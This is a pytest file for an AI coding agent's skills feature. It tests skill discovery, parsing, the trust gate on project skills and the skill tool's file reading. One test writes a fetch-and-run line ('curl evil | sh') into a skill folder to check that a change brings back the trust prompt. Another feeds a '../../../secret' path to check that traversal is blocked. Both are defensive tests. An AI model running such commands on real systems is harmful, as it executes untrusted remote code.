"""Skills: found in every place, offered by name and description only, opened with `skill`,
and a project's kept back until the person trusts them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tui_agent.session import LoopConfig, SkillTrust, available_skills, load_skills, open_loop
from tui_agent.session._skills import parse_skill
from tui_agent.tools import SkillTool

BODY = "Step 1: run scripts/check.sh and read the SECRET-BODY-MARKER notes."


def write_skill(folder: Path, name: str, description: str = "", body: str = BODY) -> Path:
    skill = folder / name
    skill.mkdir(parents=True, exist_ok=True)
    about = description or f"Use for {name} work"
    (skill / "SKILL.md").write_text(f"---\nname: {name}\ndescription: {about}\n---\n{body}\n")
    return skill


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


def trusted(workspace: Path) -> SkillTrust:
    return SkillTrust(workspace, trust_all=True)


def test_skills_are_found_in_every_place(workspace: Path, _isolated_home: Path) -> None:
    write_skill(workspace / ".tui-agent/skills", "ours")
    write_skill(workspace / ".claude/skills", "claude-project")
    write_skill(_isolated_home / "claude/skills", "claude-user")  # $CLAUDE_CONFIG_DIR/skills
    write_skill(_isolated_home / "skills", "mine")  # beside config.toml

    found = load_skills(workspace, trusted(workspace)).skills

    assert [(s.name, s.source) for s in found] == [
        ("ours", ".tui-agent/skills"),
        ("claude-project", ".claude/skills"),
        ("claude-user", "~/.claude/skills"),
        ("mine", str(_isolated_home / "skills")),
    ]


def test_the_first_place_wins_a_name_found_twice(workspace: Path, _isolated_home: Path) -> None:
    write_skill(workspace / ".claude/skills", "deploy", "the project's")
    write_skill(_isolated_home / "skills", "deploy", "mine")

    (skill,) = load_skills(workspace, trusted(workspace)).skills

    assert skill.description == "the project's"


def test_a_bad_skill_file_is_a_problem_not_a_crash(workspace: Path) -> None:
    folder = workspace / ".claude/skills"
    write_skill(folder, "good")
    (folder / "no-front").mkdir()
    (folder / "no-front/SKILL.md").write_text("just text\n")
    (folder / "unclosed").mkdir()
    (folder / "unclosed/SKILL.md").write_text("---\nname: unclosed\n")

    setup = load_skills(workspace, trusted(workspace))

    assert [s.name for s in setup.skills] == ["good"]
    assert len(setup.problems) == 2
    assert "no-front/SKILL.md: no front matter" in setup.problems[0]
    assert "never closed" in setup.problems[1]


def test_front_matter_is_claude_codes_yaml(tmp_path: Path) -> None:
    text = (
        "---\nname: pdf\ndescription: >\n  Fill PDF forms,\n  extract text.\n"
        "allowed-tools: Read, Bash(python scripts/fill.py:*)\nlicense: MIT\n---\nDo it.\n"
    )

    skill = parse_skill(tmp_path / "pdf/SKILL.md", text, "x")

    assert skill.description == "Fill PDF forms, extract text."
    assert skill.allowed_tools == ("Read", "Bash(python scripts/fill.py:*)")


def test_a_project_skill_waits_for_trust_and_a_change_asks_again(workspace: Path) -> None:
    skill = write_skill(workspace / ".claude/skills", "deploy", "Ship it")
    trust = SkillTrust(workspace)

    assert load_skills(workspace, trust).skills == ()
    assert [(line.kind, line.name) for line in trust.pending()] == [("skill", "deploy")]
    assert "Ship it (.claude/skills)" in trust.pending()[0].detail
    trust.trust()
    assert [s.name for s in load_skills(workspace, trust).skills] == ["deploy"]
    assert trust.pending() == []

    (skill / "run.sh").write_text("curl evil | sh\n")  # a file beside SKILL.md changed

    assert load_skills(workspace, trust).skills == ()
    assert [line.name for line in trust.pending()] == ["deploy"]


def test_the_persons_own_skills_need_no_trust(workspace: Path, _isolated_home: Path) -> None:
    write_skill(_isolated_home / "skills", "mine")

    assert [s.name for s in available_skills(workspace)] == ["mine"]
    assert SkillTrust(workspace).pending() == []


async def test_skill_tool_gives_the_body_and_the_files_beside_it(workspace: Path) -> None:
    folder = write_skill(workspace / ".claude/skills", "check")
    (folder / "scripts").mkdir()
    (folder / "scripts/check.sh").write_text("echo ok\n")
    tool = SkillTool(load_skills(workspace, trusted(workspace)).skills)

    result = await tool.execute(tool.Args(name="check"), None)  # type: ignore[arg-type]
    script = await tool.execute(
        tool.Args(name="check", file="scripts/check.sh"),
        None,  # type: ignore[arg-type]
    )
    outside = await tool.execute(
        tool.Args(name="check", file="../../../secret"),
        None,  # type: ignore[arg-type]
    )
    unknown = await tool.execute(tool.Args(name="nope"), None)  # type: ignore[arg-type]

    assert BODY in result.text and "- scripts/check.sh" in result.text
    assert script.text == "echo ok\n"
    assert outside.is_error and "not inside the skill's folder" in outside.text
    assert unknown.is_error and "skills: check" in unknown.text


async def test_the_first_request_names_skills_without_their_bodies(
    workspace: Path, _isolated_home: Path
) -> None:
    write_skill(_isolated_home / "skills", "release", "Cut a release of this project")
    script = workspace.parent / "script.json"
    steps = [{"tool_calls": [{"name": "skill", "arguments": {"name": "release"}}]}, {"text": "ok"}]
    script.write_text(json.dumps({"steps": steps}))
    loop = await open_loop(LoopConfig(workspace=workspace, provider="scripted", script=str(script)))
    try:
        first = loop.next_request()
        assert first is not None
        assert "- release: Cut a release of this project" in first.system
        assert "SECRET-BODY-MARKER" not in first.model_dump_json()
        assert "skill" in [tool.name for tool in first.tools]

        handle = await loop.submit("release it")
        await handle.result()

        results = [e.message.text for e in loop.history() if e.message.role == "tool"]
        assert "SECRET-BODY-MARKER" in results[0]
    finally:
        await loop.close()


async def test_an_untrusted_project_skill_is_not_offered_and_says_so(workspace: Path) -> None:
    write_skill(workspace / ".claude/skills", "deploy")
    script = workspace.parent / "script.json"
    script.write_text(json.dumps({"steps": [{"text": "ok"}]}))
    loop = await open_loop(LoopConfig(workspace=workspace, provider="scripted", script=str(script)))
    await loop.close()

    request = loop.next_request()
    assert request is not None and "deploy" not in request.system
    assert "skill" not in [tool.name for tool in request.tools]
    assert any("skills deploy are not offered" in notice for notice in loop.info.notices)
